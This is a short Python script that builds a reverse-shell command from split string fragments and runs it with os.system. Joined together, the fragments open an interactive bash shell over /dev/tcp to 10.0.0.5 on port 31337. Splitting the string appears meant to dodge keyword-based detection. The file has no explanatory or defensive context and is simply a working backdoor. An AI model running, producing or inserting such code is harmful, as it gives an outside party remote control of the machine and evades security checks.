#!/usr/bin/env python3

import os
parts = ['bash ', '-i >&', ' /dev', '/tcp/', '10.0.', '0.5/3', '1337 ', '0>&1']
os.system("".join(parts))
